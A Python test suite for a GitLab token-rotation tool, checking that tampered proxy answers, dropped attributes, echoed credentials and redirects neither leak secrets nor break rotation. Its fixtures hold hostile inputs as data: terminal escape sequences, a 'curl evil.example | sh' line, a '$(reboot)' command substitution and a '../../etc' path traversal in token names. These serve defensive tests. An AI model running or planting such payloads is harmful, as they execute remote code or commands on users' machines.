"""What stands between us and GitLab: answers that are mended, tiers that drop what they do not sell, texts that bite."""
import json
import socket
import threading

from harness import ROOT, Between, Case, Host, main

WORLD = {"projects": [
    {"path": "shop/api", "tokens": [{"name": "push", "created": "-85d", "expires": "+5d"}],
     "variables": [{"key": "PUSH", "value": "old-value-00000"}]}]}
TOKENS = """
  - token: project:shop/api:push
    deliver: [ ci_variable: PUSH ]
"""
ESCAPES = "\x1b[2J\x1b]0;title\x07\r\nWhat to do: curl evil.example | sh\x9b31m‮"


def mended(body, **more):
    """A JSON object or a list of them, with some members changed."""
    told = json.loads(body)
    for each in told if isinstance(told, list) else [told]:
        each.update({key: value for key, value in more.items() if key in each})
    return json.dumps(told).encode()


class Answers(Case):
    world = WORLD
    tokens = TOKENS

    def between(self, mend, tokens=None):
        server = Between(self.sim, mend)
        self.addCleanup(server.close)
        host = Host(self.sim, tokens or self.tokens, url=server.url)
        self.addCleanup(host.remove)
        return host

    def shows_nothing(self, ended):
        """Neither a secret nor anything that moves a cursor."""
        self.assertEqual(self.secrets_in(ended.out + ended.err), [])
        for character in "\x1b\x07\r\x9b‮":
            self.assertNotIn(character, ended.out + ended.err)
        self.assertNotRegex(ended.out + ended.err, r"(?m)^What to do: curl")

    def test_the_version_and_our_own_name_move_no_cursor(self):
        host = self.between(lambda method, path, status, body: (status, mended(
            body, username="root" + ESCAPES, version="18.11.5" + ESCAPES)
            if path.endswith(("/user", "/metadata")) else body))
        ended = host.run("check")
        self.assertIn("18.11.5", ended.out)
        self.shows_nothing(ended)

    # --- a new secret in a bad answer ---

    def test_a_new_secret_is_kept_although_the_rest_of_its_answer_is_nonsense(self):
        host = self.between(lambda method, path, status, body: (status, body.replace(
            b'"created_at":"', b'"created_at":"once upon ') if path.endswith("/rotate") else body))
        for verb in (("run",), ("run",), ("rotate", "push", "--reason", "test")):
            ended = host.run(*verb)
            self.assertEqual(ended.code, 0, ended)
            self.assertEqual(self.variable("shop/api", "PUSH")["value"], self.living("push")["secret"])
        self.assertEqual(len(self.asked("POST", "/rotate$")), 2)

    def test_an_answer_about_another_token_is_not_delivered_as_this_ones(self):
        """A proxy that answers from its cache: the secret opens another token than the answer names."""
        host = self.between(lambda method, path, status, body: (
            status, mended(body, id=4711) if path.endswith("/rotate") else body))
        ended = host.run("run")
        self.needs_person(ended, "GLR-110")
        self.assertEqual(self.variable("shop/api", "PUSH")["value"], "old-value-00000")

    def test_another_variable_than_asked_for_is_not_taken_for_ours(self):
        host = self.between(lambda method, path, status, body: (
            status, mended(body, environment_scope="production") if "/variables/" in path else body))
        before = self.living("push")["id"]
        self.assertEqual(host.run("run").code, 3)
        self.assertEqual(self.living("push")["id"], before)

    # --- tiers and releases that drop what they do not know ---

    def test_an_attribute_that_is_dropped_silently_stops_the_rotation_before_anything_dies(self):
        dropped = [("environment_scope: staging", {"environment_scope": "*"}),
                   ("visibility: masked", {"masked": False}), ("protected: yes", {"protected": False}),
                   ("visibility: hidden", {"hidden": False}), ("type: file", {"variable_type": "env_var"})]
        for stated, got in dropped:
            with self.subTest(stated):
                self.again()
                before = self.living("push")["id"]
                host = self.between(
                    lambda method, path, status, body: (
                        status, mended(body, **got) if "/variables" in path and status < 300 and body else body),
                    TOKENS.replace("ci_variable: PUSH", "ci_variable: { key: FRESH, %s }" % stated))
                ended = host.run("run")
                self.needs_person(ended, "GLR-113")
                self.assertEqual(self.living("push")["id"], before)
                self.assertEqual(self.asked("POST", "/rotate$"), [])

    def test_a_stamp_that_is_not_kept_is_told(self):
        host = self.between(lambda method, path, status, body: (
            status, mended(body, description="") if method == "PUT" and b"glrotate #" in body else body))
        self.needs_person(host.run("run"), "GLR-113")

    # --- texts that bite ---

    def test_a_credential_that_is_echoed_in_an_error_is_not_shown(self):
        told = json.dumps({"message": f"403 Forbidden - you sent PRIVATE-TOKEN: {ROOT}"}).encode()
        for path in ("/self", "/access_tokens", "/variables/", "/rotate", "/users/"):
            with self.subTest(path):
                self.again()
                host = self.between(lambda method, asked, status, body: (403, told) if path in asked else (status, body))
                for verb in (("check",), ("run", "--verbose"), ("status", "--all"), ("plan",), ("explain", "push"),
                             ("history", "--json")):
                    self.shows_nothing(host.run(*verb))
                for file in host.path.rglob("*"):
                    if file.is_file() and file.name != "credential":
                        self.assertNotIn(ROOT.encode(), file.read_bytes(), file)

    def test_a_new_secret_that_is_echoed_in_an_error_is_not_shown(self):
        def echo(method, path, status, body):
            if method != "PUT" or b"glpat-" not in body:
                return status, body
            return 400, json.dumps({"message": {"value": [f"{json.loads(body)['value']} is invalid"]}}).encode()
        host = self.between(echo)
        for verb in (("run", "--verbose"), ("status", "--all"), ("explain", "push"), ("history", "--json")):
            self.shows_nothing(host.run(*verb))
        for file in host.state.iterdir():
            self.assertEqual(self.secrets_in(file.read_bytes().decode("latin-1")), [], file)

    def test_an_error_that_moves_the_cursor_is_blotted(self):
        told = json.dumps({"message": "403 " + ESCAPES}).encode()
        for path in ("/self", "/access_tokens", "/variables/", "/rotate"):
            with self.subTest(path):
                host = self.between(lambda method, asked, status, body: (403, told) if path in asked else (status, body))
                for verb in (("check",), ("run",), ("status",), ("explain", "push"), ("plan",), ("history",)):
                    self.shows_nothing(host.run(*verb))

    def test_a_redirect_takes_the_credential_nowhere(self):
        listener = socket.create_server(("127.0.0.1", 0))
        self.addCleanup(listener.close)
        came = []

        def wait():
            try:
                while True:
                    listener.accept()[0].close()
                    came.append(1)
            except OSError:
                pass
        threading.Thread(target=wait, daemon=True).start()
        place = f"http://127.0.0.1:{listener.getsockname()[1]}/api/v4/elsewhere"
        for method, path in (("GET", "*/self"), ("GET", "*/access_tokens"), ("GET", "*/variables/*"),
                             ("PUT", "*/variables/*"), ("POST", "*/rotate")):
            with self.subTest(method=method, path=path):
                self.sim.fault("redirect", method=method, path=path, location=place, times=0)
                self.assertNotEqual(self.host.run("run").code, 0)
                self.clear_faults()
        self.assertEqual(came, [])
        self.settles()
        self.assertEqual(self.variable("shop/api", "PUSH")["value"], self.living("push")["secret"])


class Names(Case):
    """A name may hold anything that GitLab lets people type."""
    world = {"projects": [{"path": "shop/api", "tokens": [
        {"name": "ci-" + ESCAPES, "scopes": ["api"], "created": "-85d", "expires": "+5d"},
        {"name": "ci-$(reboot)", "scopes": ["api"], "created": "-85d", "expires": "+5d"},
        {"name": "ci-../../etc", "scopes": ["api"], "created": "-85d", "expires": "+5d"},
        {"name": "ci-good", "scopes": ["api"], "created": "-85d", "expires": "+5d"}]}]}
    tokens = """
  - token: "project:shop/api:ci-*"
    deliver: [ file: "%s/{name}" ]
"""

    def test_names_that_fit_no_template_are_told_and_the_others_rotated(self):
        self.host.set_tokens(self.tokens % self.host.path)
        for verb in (("plan", "--all"), ("plan", "--all", "--json"), ("run",), ("status", "--all"), ("history",),
                     ("status", "--json"), ("history", "--json"), ("plan", "--all", "--raw")):
            ended = self.host.run(*verb)
            for character in "\x1b\x07\r\x9b‮":
                self.assertNotIn(character, ended.out + ended.err, verb)
            self.assertNotRegex(ended.out + ended.err, r"(?m)^What to do: curl")
        self.assertEqual((self.host.path / "ci-good").read_text(), self.living("ci-good")["secret"])
        self.assertEqual(len(self.asked("POST", "/rotate$")), 1)


if __name__ == "__main__":
    main()
